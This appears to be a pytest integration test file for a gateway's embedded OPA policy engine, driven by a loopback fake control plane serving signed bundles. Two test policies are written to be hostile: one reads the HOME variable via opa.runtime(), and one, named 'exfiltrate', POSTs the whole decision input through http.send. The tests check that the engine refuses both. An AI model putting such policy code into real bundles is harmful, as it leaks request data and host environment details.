"""The embedded engine on its own, against a small control plane served by this test.

The pinned OPA's SDK (the real library) long-polls a signed bundle from a loopback HTTP server
that plays the control plane's ``/v1/opa`` (bundle, status, decision logs), so each bundle it is
given is under the test's control: one that calls a builtin outside the restricted capabilities
must be refused while the previous one keeps deciding.
"""

from __future__ import annotations

import gzip
import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from gateway.config import Config
from gateway.controlplane.bundle import build_bundle, bundle_data
from gateway.errors import PolicyDecisionInvalid, PolicyUnavailable
from gateway.policy.bundle_signing import BundleSigner
from gateway.policy.embedded import EmbeddedOpa, EmbeddedPolicyEngine
from gateway.policy.reserved import load_reserved_modules

pytestmark = [pytest.mark.integration, pytest.mark.anyio]

PEM = ec.generate_private_key(ec.SECP256R1()).private_bytes(
    serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
)

ALLOW_V = 'package gateway\n\ndecision := {{"allow": true, "reasons": ["{tag}"], "obligations": {{}}}}\n'
SLOW = (
    "package gateway\n\n"
    'decision := {"allow": n > 0, "reasons": [], "obligations": {}} if {\n'
    "\tn := count([x | some x in numbers.range(1, 200000000); x % 7 == 0])\n"
    "}\n"
)


def _input(arguments: dict[str, Any] | None = None) -> dict[str, Any]:
    return {
        "tenant": "t",
        "environment": "prod",
        "action": "tools/call",
        "subject": {"sub": "alice", "roles": ["viewer"], "claims": {}},
        "server": {"name": "demo", "transport": "streamable_http"},
        "tool": {"name": "echo", "annotations": {}},
        "arguments": arguments or {"text": "hi"},
        "session": {"id": None, "protocol_version": "2026-07-28"},
        "projection": {"version": 1},
    }


def _record_decisions(monkeypatch: pytest.MonkeyPatch) -> list[tuple[bool, float | None, str | None]]:
    """Record each evaluation: (on the event loop's thread?, its timeout, its error code)."""
    import gateway.policy.embedded as embedded

    calls: list[tuple[bool, float | None, str | None]] = []
    real = embedded.EmbeddedOpa.decide_raw

    def spy(self: EmbeddedOpa, path: bytes, body: bytes, timeout: float | None = None) -> Any:
        answer = real(self, path, body, timeout)
        on_loop = threading.current_thread() is threading.main_thread()
        calls.append((on_loop, timeout, (answer.get("error") or {}).get("code")))
        return answer

    monkeypatch.setattr(embedded.EmbeddedOpa, "decide_raw", spy)
    return calls


class FakeControlPlane:
    """``/v1/opa/bundles/gateway`` (ETag, 304), ``/v1/opa/status`` and ``/v1/opa/logs``, recorded."""

    def __init__(self) -> None:
        self.bundle = b""
        self.etag = ""
        self.status: list[dict[str, Any]] = []
        self.logs: list[dict[str, Any]] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path != "/v1/opa/bundles/gateway":
                    self.send_response(404)
                    self.end_headers()
                    return
                if self.headers.get("if-none-match") == owner.etag:
                    time.sleep(0.05)  # a short "long poll": OPA asks again after its min delay
                    self.send_response(304)
                    self.end_headers()
                    return
                self.send_response(200)
                self.send_header("etag", owner.etag)
                self.send_header("content-type", "application/vnd.openpolicyagent.bundles")
                self.send_header("content-length", str(len(owner.bundle)))
                self.end_headers()
                self.wfile.write(owner.bundle)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", "0")))
                if self.headers.get("content-encoding") == "gzip":
                    body = gzip.decompress(body)
                if self.path.endswith("/status"):
                    owner.status.append(json.loads(body))
                elif self.path.endswith("/logs"):
                    owner.logs.extend(json.loads(body))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def publish(self, version: int, gateway_rego: str) -> str:
        """Serve a new signed bundle whose ``gateway`` package is ``gateway_rego``; return its revision."""
        revision = f"p{version}-pv{version}"
        data = bundle_data(version=version, policy_version=version, revision=revision, servers=[], policy_data=None)
        self.bundle = build_bundle(
            revision=revision,
            version=version,
            policy_version=version,
            policy_modules={"gateway.rego": gateway_rego},
            reserved_modules=load_reserved_modules(),
            data=data,
            signer=BundleSigner.from_pem(PEM, key_id="test"),
        )
        self.etag = f'"p{version}"'
        return revision

    def close(self) -> None:
        self.server.shutdown()


@pytest.fixture
def control_plane() -> Iterator[FakeControlPlane]:
    cp = FakeControlPlane()
    yield cp
    cp.close()


def _wait(predicate: Callable[[], Any], what: str, timeout: float = 20) -> Any:
    deadline = time.monotonic() + timeout
    while not (value := predicate()):
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.02)
    return value


@pytest.fixture
def engine_for(
    control_plane: FakeControlPlane, tmp_path: Path, embedded_opa_lib: Path
) -> Iterator[Callable[..., EmbeddedOpa]]:
    started: list[EmbeddedOpa] = []

    def start(timeout: float = 2.0, wait: bool = True) -> EmbeddedOpa:
        config = Config.from_mapping(
            {
                "plane": "data",
                "run_dir": str(tmp_path),
                "control_plane": {"url": control_plane.url, "internal_token": "internal-x", "opa_token": "opa-x"},
                "jwt": {"issuer": "https://idp.test", "audience": "https://gw.test/mcp", "jwks_url": "file:///jwks"},
                "opa": {
                    "engine": "embedded",
                    "embedded_lib": str(embedded_opa_lib),
                    "work_dir": str(tmp_path / f"opa-{len(started)}"),
                    "timeout": timeout,
                    "long_poll_timeout": 1,
                },
                "bundle_signing": {"key": PEM.decode(), "key_id": "test"},
            }
        )
        opa = EmbeddedOpa(config)
        started.append(opa)
        opa.start()
        if wait:
            _wait(opa.bundle_active, "the first bundle")
        return opa

    yield start
    for opa in started:
        opa.close()


async def test_decisions_come_from_the_signed_bundle_with_its_revision(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa]
) -> None:
    revision = control_plane.publish(1, ALLOW_V.format(tag="v1"))
    engine = EmbeddedPolicyEngine(engine_for())

    decision = await engine.decide(_input())

    assert (decision.allow, decision.reasons, decision.revision) == (True, ("v1",), revision)
    assert decision.decision_id
    # OPA's own decision-log plugin shipped it, arguments erased by the reserved system.log.mask.
    logged = _wait(lambda: [e for e in control_plane.logs if e["decision_id"] == decision.decision_id], "the log")
    assert "/input/arguments" in logged[0]["erased"] and "arguments" not in logged[0]["input"]
    assert logged[0]["labels"]["decision_engine"] == "embedded" and logged[0]["labels"]["gateway_dataplane"]
    assert logged[0]["bundles"]["gateway"]["revision"] == revision


async def test_a_bundle_calling_a_builtin_outside_the_capabilities_is_refused_and_the_previous_keeps_serving(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa]
) -> None:
    first = control_plane.publish(1, ALLOW_V.format(tag="v1"))
    opa = engine_for()
    engine = EmbeddedPolicyEngine(opa)
    leaky = 'package gateway\n\ndecision := {"allow": true, "reasons": [opa.runtime().env.HOME], "obligations": {}}\n'
    control_plane.publish(2, leaky)

    def refusal() -> dict[str, Any] | None:
        for report in control_plane.status:
            bundle: dict[str, Any] = report.get("bundles", {}).get("gateway", {})
            if bundle.get("code") == "bundle_error":
                return bundle
        return None

    refused = _wait(refusal, "the status report of the refused bundle")
    assert refused["active_revision"] == first
    assert {(e["message"], e["location"]["file"], e["location"]["row"]) for e in refused["errors"]} == {
        ("undefined function opa.runtime", "policy/gateway.rego", 3)
    }
    decision = await engine.decide(_input())
    assert (decision.reasons, decision.revision) == (("v1",), first)

    third = control_plane.publish(3, ALLOW_V.format(tag="v3"))
    _wait(lambda: opa.decide_raw(b"gateway_runtime/main/call", b"{}")["result"]["revision"] == third, "v3")
    assert (await engine.decide(_input())).reasons == ("v3",)


async def test_an_http_send_bundle_is_refused_too(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa]
) -> None:
    exfiltrate = (
        "package gateway\n\n"
        'decision := {"allow": true, "reasons": [], "obligations": {}} if {\n'
        '\thttp.send({"method": "POST", "url": "http://127.0.0.1:9/x", "body": input})\n'
        "}\n"
    )
    control_plane.publish(1, exfiltrate)
    opa = engine_for(wait=False)
    _wait(lambda: any("http.send" in json.dumps(r) for r in control_plane.status), "the refusal")
    assert not opa.bundle_active()
    with pytest.raises(PolicyUnavailable, match="not activated"):
        await EmbeddedPolicyEngine(opa).decide(_input())


async def test_an_undefined_decision_is_invalid_and_a_slow_one_times_out_fail_closed(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa]
) -> None:
    control_plane.publish(1, "package gateway\n\nother := true\n")
    engine = EmbeddedPolicyEngine(engine_for())
    with pytest.raises(PolicyDecisionInvalid, match="undefined"):
        await engine.decide(_input())

    control_plane.publish(2, SLOW)
    slow = EmbeddedPolicyEngine(engine_for(timeout=0.05))
    started = time.monotonic()
    with pytest.raises(PolicyUnavailable, match="embedded OPA engine failed: timeout"):
        await slow.decide(_input())
    assert time.monotonic() - started < 5  # cancelled at its deadline, not run to the end


async def test_a_slow_decision_leaves_the_event_loop_at_the_loop_budget_and_finishes_in_a_thread(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Evaluation cost does not follow input size: a small input may be slow. It holds the loop
    for LOOP_BUDGET at most, then gets the rest of opa.timeout in a worker thread."""
    import gateway.policy.embedded as embedded

    control_plane.publish(1, SLOW)
    opa = engine_for(timeout=0.3)
    calls = _record_decisions(monkeypatch)
    with pytest.raises(PolicyUnavailable, match="timeout"):
        await EmbeddedPolicyEngine(opa).decide(_input())
    assert calls == [
        (True, embedded.LOOP_BUDGET, "timeout"),
        (False, pytest.approx(0.3 - embedded.LOOP_BUDGET), "timeout"),
    ]


def test_an_error_from_the_library_is_decoded_whatever_its_length(embedded_opa_lib: Path, tmp_path: Path) -> None:
    """Every buffer the library returns is NUL-terminated (a long error once read past its end)."""
    from gateway.policy.embedded import load_library

    lib = load_library(str(embedded_opa_lib))
    name = "s" + "x" * 5000
    config = json.dumps({"bundles": {"b": {"service": name, "resource": "r"}}}).encode()
    for _ in range(20):
        with pytest.raises(PolicyUnavailable, match="did not start"):
            lib.new(config, "id", str(tmp_path / "opa.log"))


async def test_a_one_megabyte_input_is_decided_off_the_event_loop(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa], monkeypatch: pytest.MonkeyPatch
) -> None:
    import gateway.policy.embedded as embedded

    control_plane.publish(1, ALLOW_V.format(tag="big"))
    engine = EmbeddedPolicyEngine(engine_for())
    calls = _record_decisions(monkeypatch)
    assert (await engine.decide(_input({"text": "x" * 1_000_000}))).reasons == ("big",)
    assert (await engine.decide(_input({"text": "small"}))).reasons == ("big",)
    assert calls == [(False, None, None), (True, embedded.LOOP_BUDGET, None)]


async def test_run_starts_the_library_off_the_event_loop_retries_a_failed_start_and_stops_on_cancel(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Starting OPA's plugins waits on its status upload to the control plane; with both planes in
    one process that upload is served by this loop, so a start on the loop could deadlock."""
    import anyio

    import gateway.policy.embedded as embedded

    control_plane.publish(1, ALLOW_V.format(tag="v1"))
    opa = engine_for(wait=False)
    opa.close()  # the fixture's own start; run() makes a fresh one
    launched_on: list[str] = []
    real = embedded.EmbeddedOpa._launch
    failures = [OSError("the work directory is gone")]  # any failure to start is retried

    def spy(self: EmbeddedOpa, document: bytes) -> None:
        launched_on.append(threading.current_thread().name)
        if failures:
            raise failures.pop()
        real(self, document)

    monkeypatch.setattr(embedded.EmbeddedOpa, "_launch", spy)
    async with anyio.create_task_group() as tg:
        tg.start_soon(opa.run)
        with anyio.fail_after(20):
            while not opa.bundle_active():
                await anyio.sleep(0.01)
        assert (await EmbeddedPolicyEngine(opa).decide(_input())).reasons == ("v1",)
        tg.cancel_scope.cancel()
    assert len(launched_on) == 2 and threading.main_thread().name not in launched_on
    assert not failures and opa.restarts == 1
    assert opa.handle is None and not opa.bundle_active()


async def test_a_long_discovery_list_is_filtered_in_a_worker_thread_at_once(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa], monkeypatch: pytest.MonkeyPatch
) -> None:
    """One evaluation per candidate: a long list would overrun the loop budget and run twice."""
    import gateway.policy.embedded as embedded

    control_plane.publish(1, ALLOW_V.format(tag="v1"))
    engine = EmbeddedPolicyEngine(engine_for())
    calls = _record_decisions(monkeypatch)

    def listing(n: int) -> dict[str, Any]:
        doc = _input()
        doc["action"] = "tools/list"
        del doc["tool"]
        doc["candidates"] = [
            {"key": f"demo__t{i}", "server": doc["server"], "tool": {"name": f"t{i}", "annotations": {}}}
            for i in range(n)
        ]
        return doc

    short = await engine.visible(listing(embedded.LIST_ON_LOOP))
    long = await engine.visible(listing(embedded.LIST_ON_LOOP + 1))
    assert len(short.allowed) == embedded.LIST_ON_LOOP and len(long.allowed) == embedded.LIST_ON_LOOP + 1
    assert calls == [(True, embedded.LOOP_BUDGET, None), (False, None, None)]


async def test_an_answer_that_is_not_a_json_object_is_a_deny(
    control_plane: FakeControlPlane, engine_for: Callable[..., EmbeddedOpa], monkeypatch: pytest.MonkeyPatch
) -> None:
    control_plane.publish(1, ALLOW_V.format(tag="v1"))
    opa = engine_for()
    engine = EmbeddedPolicyEngine(opa)
    assert opa.handle is not None
    for raw in (b"[]", b"null", b"{not json"):
        monkeypatch.setattr(opa._lib, "_take", lambda ptr, length=None, raw=raw: __import__("orjson").loads(raw))
        with pytest.raises(PolicyUnavailable, match="not a JSON object"):
            await engine.decide(_input())
